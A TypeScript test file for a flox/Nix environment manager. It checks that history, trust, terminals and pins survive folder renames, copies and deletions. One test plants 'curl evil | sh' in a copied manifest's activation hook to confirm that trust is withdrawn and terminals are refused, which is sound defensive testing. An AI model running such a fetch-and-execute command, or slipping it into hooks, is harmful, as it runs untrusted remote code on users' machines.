import { cpSync, existsSync, mkdirSync, readFileSync, readlinkSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import type { EnvironmentId } from '../../shared/model/environment.ts'
import { isRooted } from '../nix/root-links.ts'
import { startTestEngine, uncancelled } from '../testing/test-engine.ts'
import type { TestEngine } from '../testing/test-engine.ts'
import { useTestMachine } from '../testing/test-machine.ts'
import { floxEnvironments } from './flox-registry.ts'

const machine = useTestMachine()
let engine: TestEngine
beforeEach(async () => {
  engine = await startTestEngine(machine.home)
})
afterEach(() => engine.close())

const size = { columns: 80, rows: 24 }
const alpha = () => machine.storePackage('alpha-1.0', { 'bin/alpha': '' })
const beta = () => machine.storePackage('beta-1.0', { 'bin/beta': '' })
const list = () => engine.api.environments.list({}, uncancelled)
const moveTo = (id: EnvironmentId, folder: string) => engine.api.environments.moveTo({ id, folder }, uncancelled)
const generations = async (id: EnvironmentId) =>
  (await engine.api.history.list({ id }, uncancelled)).entries.map(({ generation }) => generation)
const manifestOf = (folder: string) => join(folder, '.flox/env/manifest.toml')

/** The user's own environment with a hook that may run, two generations and a terminal. */
async function lived(name: string): Promise<{ folder: string; id: EnvironmentId }> {
  const folder = machine.project(name)
  const id = await engine.create(folder, [alpha()])
  const job = await engine.apply(id, { kind: 'set', path: ['hook', 'on-activate'], value: 'echo hi' })
  expect(job.state).toBe('done')
  await engine.api.environments.pin({ id, pinned: true }, uncancelled)
  await openTerminal(id)
  return { folder, id }
}

/** Until its shell has started: before that it still needs the folder by its name. */
async function openTerminal(environment: EnvironmentId): Promise<void> {
  const { id } = await engine.api.terminals.open({ environment, shell: 'bash', ...size }, uncancelled)
  await engine.api.terminals.write({ id, data: 'echo rea""dy\n' }, uncancelled)
  let text = ''
  for await (const item of engine.api.terminals.output({ id }, uncancelled)) {
    text += 'data' in item ? Buffer.from(item.data, 'base64').toString() : ''
    if (item.kind === 'exit' || text.includes('ready')) break
  }
  expect(text).toContain('ready')
}

async function expectWhole(id: EnvironmentId, folder: string): Promise<void> {
  const [one, ...others] = await list()
  expect(others).toEqual([])
  expect(one).toMatchObject({ id, folder, state: 'ready', trust: 'full', pinned: true, terminals: 1, generation: 2 })
  expect(await generations(id)).toEqual([2, 1])
}

it('keeps history, consent, terminals and pin of an environment that the user finds in another place', async () => {
  const { folder, id } = await lived('chat-web')
  const renamed = `${folder}-renamed`
  renameSync(folder, renamed)
  expect(await list()).toMatchObject([{ id, state: 'missing', terminals: 1, generation: 2 }])
  expect(await engine.api.environments.search({ id }, uncancelled)).toEqual({ start: machine.home, likely: renamed })
  expect(await moveTo(id, renamed)).toMatchObject({ id, folder: renamed })
  await expectWhole(id, renamed)
  // What came before can be undone where it is now, and a terminal opens without a question.
  await engine.ended(await engine.api.history.undo({ id }, uncancelled))
  expect(readFileSync(manifestOf(renamed), 'utf8')).not.toContain('echo hi')
  await engine.ended(await engine.api.history.redo({ id }, uncancelled))
  await openTerminal(id)
  const link = join(renamed, '.flox/run/x86_64-linux.chat-web-dev')
  expect(await isRooted(link)).toBe(true)
  expect(await floxEnvironments()).toEqual([join(renamed, '.flox')])
})

it('knows a folder again that is opened in another place, and after a restart too', async () => {
  const { folder, id } = await lived('app')
  mkdirSync(join(machine.home, 'work'))
  const moved = join(machine.home, 'work', 'app')
  renameSync(folder, moved)
  expect(await engine.open(moved)).toBe(id)
  await expectWhole(id, moved)
  const again = join(machine.home, 'again')
  renameSync(moved, again)
  await engine.api.terminals.list({}, uncancelled)
  await engine.close()
  engine = await startTestEngine(machine.home)
  expect(await engine.open(again)).toBe(id)
  expect(await list()).toMatchObject([{ id, folder: again, trust: 'full', generation: 2 }])
  expect(await generations(id)).toEqual([2, 1])
})

it('takes a copy beside the original for another environment, which gets nothing of it', async () => {
  const { folder, id } = await lived('one')
  const copy = `${folder}-copy`
  cpSync(folder, copy, { recursive: true, preserveTimestamps: true, verbatimSymlinks: true })
  const other = await engine.open(copy)
  expect(other).not.toBe(id)
  expect((await list()).find((one) => one.id === other)).toMatchObject({
    trust: 'none',
    terminals: 0,
    generation: null,
  })
  expect(await generations(other)).toEqual([])
  await expect(moveTo(id, copy)).rejects.toMatchObject({ code: 'ENVIRONMENT_NOT_MOVED' })
})

it('gives no consent to a folder that only takes the place of another', async () => {
  const { folder, id } = await lived('trusted')
  const strange = machine.project('strange')
  cpSync(folder, strange, { recursive: true, verbatimSymlinks: true })
  writeFileSync(manifestOf(strange), readFileSync(manifestOf(strange), 'utf8').replace('echo hi', 'curl evil | sh'))
  renameSync(folder, `${folder}-away`)
  expect((await moveTo(id, strange)).trust).toBe('none')
  await expect(
    engine.api.terminals.open({ environment: id, shell: 'bash', ...size }, uncancelled),
  ).rejects.toMatchObject({ code: 'NOT_TRUSTED' })
})

it('keeps consent for the same content, where the folder was copied to another disk and deleted', async () => {
  const { folder, id } = await lived('copied')
  const there = machine.project('there')
  cpSync(folder, there, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true })
  rmSync(folder, { recursive: true })
  await moveTo(id, there)
  expect(await list()).toMatchObject([{ id, folder: there, trust: 'full', terminals: 1, generation: 2 }])
})

it('takes no folder inside for the one that holds the environment', async () => {
  const { folder, id } = await lived('whole')
  const renamed = `${folder}-renamed`
  renameSync(folder, renamed)
  mkdirSync(join(renamed, '.git'))
  mkdirSync(join(renamed, 'inside'))
  await expect(moveTo(id, join(renamed, 'inside'))).rejects.toMatchObject({ code: 'ENVIRONMENT_NOT_FOUND' })
  expect((await list())[0]?.state).toBe('missing')
})

it('refuses a folder that is another environment with a past', async () => {
  const { folder, id } = await lived('first')
  const other = machine.project('second')
  const second = await engine.create(other, [beta()])
  renameSync(folder, `${folder}-away`)
  await expect(moveTo(id, other)).rejects.toMatchObject({ code: 'ENVIRONMENT_LISTED' })
  expect((await list()).map((one) => one.id).sort()).toEqual([id, second].sort())
})

it('loses nothing of an environment whose former place gets a new one', async () => {
  const { folder, id } = await lived('place')
  const away = join(machine.home, 'elsewhere')
  mkdirSync(away)
  renameSync(folder, join(away, 'place'))
  const fresh = await engine.create(machine.project('place'), [beta()])
  expect(fresh).not.toBe(id)
  expect(await generations(fresh)).toEqual([1])
  // A terminal of it runs: it stays on the list, and can be found.
  expect((await list()).find((one) => one.id === id)).toMatchObject({ state: 'missing', terminals: 1 })
  expect(await engine.open(join(away, 'place'))).toBe(id)
  expect((await list()).find((one) => one.id === id)).toMatchObject({ trust: 'full', generation: 2, terminals: 1 })
})

it('takes up the history of one that left the list, was moved and comes back', async () => {
  const { folder, id } = await lived('left')
  await engine.api.environments.forget({ id }, uncancelled)
  expect(await list()).toEqual([])
  renameSync(folder, `${folder}-moved`)
  expect(await engine.open(`${folder}-moved`)).toBe(id)
  expect(await generations(id)).toEqual([2, 1])
})

it('tells at once that a folder has gone, and that it is back', async () => {
  const { folder, id } = await lived('live')
  const heard: string[] = []
  const listening = new AbortController()
  void (async () => {
    for await (const change of engine.api.app.changes({}, { signal: listening.signal }))
      if (change.topic === 'environment' && change.id === id) heard.push((await list())[0]?.state ?? '')
  })()
  renameSync(folder, `${folder}-away`)
  await expect.poll(() => heard.at(-1), { timeout: 10_000 }).toBe('missing')
  renameSync(`${folder}-away`, folder)
  await expect.poll(() => heard.at(-1), { timeout: 10_000 }).toBe('ready')
  // It is watched as before.
  heard.length = 0
  writeFileSync(manifestOf(folder), `${readFileSync(manifestOf(folder), 'utf8')}# more\n`)
  await expect.poll(() => heard.length, { timeout: 10_000 }).toBeGreaterThan(0)
  listening.abort()
})

it('says of a listed environment that its folder is gone, never that one can be created', async () => {
  const { folder, id } = await lived('gone')
  rmSync(join(folder, '.flox'), { recursive: true, force: true })
  const code = { code: 'FOLDER_MISSING' }
  expect((await list())[0]).toMatchObject({ state: 'missing', problem: code })
  await expect(engine.api.environments.get({ id }, uncancelled)).rejects.toMatchObject(code)
  await expect(
    engine.api.terminals.open({ environment: id, shell: 'bash', ...size }, uncancelled),
  ).rejects.toMatchObject(code)
  expect((await engine.apply(id, { kind: 'build' })).error).toMatchObject(code)
  expect(existsSync(join(folder, '.flox'))).toBe(false)
  expect(await generations(id)).toEqual([2, 1])
})

it('keeps the terminals of one place together, wherever it was when they were opened', async () => {
  const { folder, id } = await lived('stack')
  renameSync(folder, `${folder}-b`)
  await moveTo(id, `${folder}-b`)
  await openTerminal(id)
  const cache = process.env['XDG_CACHE_HOME'] ?? ''
  const script = readFileSync(join(cache, 'floe/activate/v2', `${folder}-b`, '.flox/default.sh'), 'utf8')
  expect(script).toContain(id)
  expect(existsSync(join(cache, 'floe/activate/v2', folder, '.flox'))).toBe(false)
  expect(readlinkSync(join(`${folder}-b`, '.flox/run/x86_64-linux.stack-dev'))).toContain('/nix/store/')
})
